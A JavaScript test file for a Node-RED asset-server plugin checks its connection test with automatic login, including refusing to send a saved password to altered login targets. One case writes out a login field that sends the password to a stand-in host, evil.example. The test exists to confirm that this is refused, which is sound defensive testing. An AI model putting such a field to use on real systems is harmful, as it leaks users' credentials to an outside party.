'use strict';
// The asset-server dialog's "Test connection" with automatic login, over HTTP: a real Node-RED
// (test/e2e/lib/browser-node-red.js, no browser) and the emulator with a user who may log in.
// The route gets what the dialog sends (src/plugin/dam-sidebar.ts; resources/dam-connection-test.js):
// the login settings, user name and password typed, or the saved-password placeholder.
require('should');
const http = require('http');
const { startNodeRed } = require('../e2e/lib/browser-node-red');
const { startEmulator } = require('../../dist/emulator');

const PASSWORD = 'Ct9-loginpassword-W3eR71tYu2';
const WRONG_PASSWORD = 'Ct9-wrongpassword-A8sD42fGh6';
const SAVED_PASSWORD = '__PWRD__';
const DEPLOYED = 'ct00000000000001';
const TAB = 'ct00000000000000';

describe('Test connection with automatic login (admin route, real Node-RED, emulator)', function () {
  this.timeout(60000);
  let emulator, nr, elsewhere;
  /** Requests the other server got (path and query included): a saved password must never reach it. */
  const seenElsewhere = [];
  /** The reachability probe of Test connection: no cookie, no login (issue 23 #5); not counted. */
  const isProbe = (seen) => /^GET \/review\/api\/events\/assets\/subscribe\/dam-connection-check-probe $/.test(seen);
  const answers = [];

  before(async function () {
    this.timeout(90000);
    emulator = await startEmulator({ port: 0, sessions: [], users: [{ name: 'robot', password: PASSWORD, permissions: ['events', 'add'] }] });
    elsewhere = http.createServer((req, res) => {
      const seen = `${req.method} ${req.url} ${req.headers.cookie || ''}`;
      if (!isProbe(seen)) seenElsewhere.push(seen);
      res.end('{}');
    });
    await new Promise((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    nr = await startNodeRed();
    // Deployed: automatic login with the form preset, the password saved as a credential, no cookie.
    const flows = [
      { id: TAB, type: 'tab', label: 'connection test' },
      { id: DEPLOYED, type: 'asset-server', name: 'deployed', baseUrl: emulator.url, timeout: 10, loginEnabled: true, loginPreset: 'form',
        credentials: { username: 'robot', password: PASSWORD } }
    ];
    const res = await nr.deploy(flows);
    [200, 204].should.containEql(res.status, `deploy: ${res.text}`);
  });

  after(async function () {
    this.timeout(30000);
    if (nr) {
      if (this.currentTest && this.currentTest.state === 'failed') console.log(nr.output());
      await nr.stop();
    }
    if (elsewhere) elsewhere.close();
    if (emulator) await emulator.close();
  });

  afterEach(function () {
    const text = answers.join('\n') + (nr ? nr.output() : '');
    text.should.not.containEql(PASSWORD).and.not.containEql(WRONG_PASSWORD);
    text.should.not.match(/ses1-[0-9a-f]{32}/, 'no session cookie of a login');
  });

  /** POSTs the dialog's values as resources/dam-connection-test.js does. */
  async function connectionTest(values) {
    const res = await fetch(new URL('dam-assets/connection-test', nr.url), {
      method: 'POST', headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ timeout: '10', rejectUnauthorized: true, tls: '', cookie: '', ...values })
    });
    const text = await res.text();
    answers.push(text);
    res.status.should.equal(200, text);
    return JSON.parse(text);
  }

  /** A new asset-server's dialog with automatic login, preset utility call (its fields filled in as the editor does). */
  function newServer(extra = {}) {
    return {
      id: 'ct00000000000009', baseUrl: emulator.url, loginEnabled: true, loginPreset: 'utility', loginSessionUrl: '', loginUrl: '/command',
      loginMethod: 'GET', loginFieldsIn: 'query',
      loginFields: 'zm_username={{username}}\nzm_password={{password}}\ndata={clientVersion:"dam-assets-node-red",cmd:getcredentials}',
      sessionFrom: 'json', sessionName: 'zm_cookie', cookieName: 'JSESSIONID', username: 'robot', password: PASSWORD, ...extra
    };
  }

  it('a new server, no cookie, login preset and typed password: logs in, then the check says ok', async function () {
    const before = emulator.sessionStats().logins;
    const report = await connectionTest(newServer());
    report.result.should.equal('ok', report.message);
    report.message.should.match(/^login worked; server reached/);
    emulator.sessionStats().logins.should.equal(before + 1);
  });

  it('a wrong password: login failed, naming the user name and password, without the password', async function () {
    const report = await connectionTest(newServer({ password: WRONG_PASSWORD }));
    report.result.should.equal('login', report.message);
    report.part.should.equal('credentials');
    report.message.should.match(/^login failed: login request: .*\/command answered HTTP 401 \(user name or password refused\)/);
  });

  it('a wrong user name: login failed the same way', async function () {
    const report = await connectionTest(newServer({ username: 'nobody' }));
    report.should.containEql({ result: 'login', part: 'credentials' });
  });

  it('a login whose session is not taken (wrong cookie name): login failed, naming the login settings', async function () {
    const report = await connectionTest(newServer({ cookieName: 'OTHER' }));
    report.should.containEql({ result: 'login', part: 'login' });
    report.message.should.match(/refused the session it gave/);
  });

  it('login on without a password: a configuration answer naming the user name and password', async function () {
    const report = await connectionTest(newServer({ password: '' }));
    report.should.containEql({ result: 'config', part: 'credentials' });
    report.message.should.match(/login\.password: is required/);
  });

  /** The deployed server's dialog as the editor sends it: form preset, the saved password, one setting changed. */
  function deployedServer(extra = {}) {
    return { id: DEPLOYED, baseUrl: emulator.url, timeout: '5', loginEnabled: true, loginPreset: 'form', username: 'robot', password: SAVED_PASSWORD, ...extra };
  }

  it('the deployed server with its timeout changed and the saved password: logs in as the deployed node does', async function () {
    const before = emulator.sessionStats().logins;
    const report = await connectionTest(deployedServer());
    report.result.should.equal('ok', report.message);
    report.message.should.match(/^login worked/);
    emulator.sessionStats().logins.should.equal(before + 1);
  });

  it('the saved password in a login that differs from the deployed one in any way: refused, nothing sent', async function () {
    const other = `http://127.0.0.1:${elsewhere.address().port}`;
    const before = emulator.sessionStats().logins;
    const changes = [
      { loginSessionUrl: `${other}/review/` }, // the session page elsewhere (its cookies go with the login)
      { loginPreset: 'utility' }, // another preset: other URL, method, fields
      { loginUrl: '/review/api/events/assets/subscribe/x' }, // another path on the same server
      { loginFields: 'callback=http://evil.example/?p={{password}}' }, // the password in another field
      { username: 'someone-else' } // the saved password tried with another user name
    ];
    for (const changed of changes) {
      const report = await connectionTest(deployedServer(changed));
      report.should.containEql({ result: 'config', part: 'password' }, JSON.stringify(changed));
      report.message.should.match(/type the password again/);
    }
    emulator.sessionStats().logins.should.equal(before, 'no login made');
    seenElsewhere.should.eql([]);
  });

  it('the saved password towards another base URL, or another login URL: refused, nothing sent there', async function () {
    const other = `http://127.0.0.1:${elsewhere.address().port}`;
    for (const changed of [{ baseUrl: other }, { loginUrl: `${other}/command` }]) {
      const report = await connectionTest(newServer({ id: DEPLOYED, password: SAVED_PASSWORD, ...changed }));
      report.should.containEql({ result: 'config', part: 'password' });
      report.message.should.match(/type the password again/);
    }
    // A password typed in the dialog goes where the dialog says.
    (await connectionTest(newServer({ loginUrl: `${other}/command` }))).should.containEql({ result: 'login', part: 'login' });
    seenElsewhere.length.should.equal(1);
    seenElsewhere[0].should.containEql(encodeURIComponent(PASSWORD));
    seenElsewhere.length = 0;
  });

  it('the saved password with login settings that cannot work: the setting is named, not the password', async function () {
    const report = await connectionTest(deployedServer({ loginPreset: '', loginUrl: '', loginMethod: 'PATCH' }));
    report.result.should.equal('config', report.message);
    report.part.should.not.equal('password');
    report.message.should.not.match(/type the password again/);
  });

  it('the saved password of a server that is not deployed: refused', async function () {
    const report = await connectionTest(newServer({ password: SAVED_PASSWORD }));
    report.should.containEql({ result: 'config', part: 'password' });
  });
});
